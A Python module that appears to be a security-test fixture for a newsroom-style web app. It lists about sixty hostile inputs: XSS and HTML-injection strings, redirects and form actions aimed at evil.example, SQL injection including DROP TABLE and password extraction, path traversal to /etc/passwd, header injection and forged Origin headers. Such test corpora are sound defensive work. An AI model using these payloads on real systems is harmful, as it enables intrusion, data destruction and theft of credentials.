"""Sixty ways to make a desk do what it should not."""

from typing import Final

__all__ = ["FORGERIES", "HEADS", "PATHS", "QUERIES", "SCRIPTS"]

HIT: Final = "document.documentElement.dataset.hit=1"
SCRIPTS: Final = (
    f"<script>{HIT}</script>",
    f'"><script>{HIT}</script>',
    f"'><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"--><script>{HIT}</script>",
    f"<![CDATA[<script>{HIT}</script>]]>",
    f"<scr<script>ipt>{HIT}</script>",
    f'<img src=x onerror="{HIT}">',
    f'" onmouseover="{HIT}" autofocus onfocus="{HIT}',
    f'<svg onload="{HIT}"></svg>',
    f'<svg><animate onbegin="{HIT}" attributeName=x dur=1s>',
    f'<math><mi xlink:href="javascript:{HIT}">x</mi></math>',
    f'<details open ontoggle="{HIT}">x</details>',
    f'<input autofocus onfocus="{HIT}">',
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    f'<object data="javascript:{HIT}"></object>',
    f'<a href="javascript:{HIT}">here</a>',
    f"javascript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<img src="https://evil.example/x.png">',
    "<style>*{background:url(https://evil.example/x)}</style>",
    '<form action="https://evil.example/"><button>go</button></form>',
    f'<b hx-get="https://evil.example/" hx-trigger="load" hx-on:load="{HIT}">x</b>',
    "{{ ''.__class__.__mro__ }}{% include '/etc/passwd' %}",
    "\u202egnissim si eman eht\u202c\u0000\u0007\u001b[31m",
    '=HYPERLINK("https://evil.example/","open")',
)
QUERIES: Final = (
    "' OR '1'='1",
    "'; DROP TABLE article; --",
    "' UNION SELECT password FROM account --",
    '") OR ("1"="1',
    "1; SELECT pg_sleep(5); --",
    "' AND 1=CAST((SELECT password FROM account LIMIT 1) AS int) --",
    "%' OR dossier LIKE '%",
    "\\'; ATTACH DATABASE '/tmp/evil.db' AS evil; --",
    'NEAR("a" "b") AND head:x OR body:*',
    '"unclosed AND (',
    "* ^ - + : { } ( ) \" '",
    "\u0000' OR ''='",
)
PATHS: Final = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "....//....//etc/passwd",
    "..\\..\\..\\etc\\passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "vendor/../../settings.py",
)
HEADS: Final = (
    "x\r\nSet-Cookie: evil=1",
    "x%0d%0aSet-Cookie:%20evil=1",
    "x\nLocation: https://evil.example/",
    "//evil.example/",
    "https://evil.example/",
)
FORGERIES: Final = (
    {"origin": "https://evil.example"},
    {"origin": "null"},
    {"sec-fetch-site": "cross-site"},
    {"referer": "https://evil.example/"},
    {"x-http-method-override": "POST", "origin": "http://127.0.0.1.evil.example"},
)
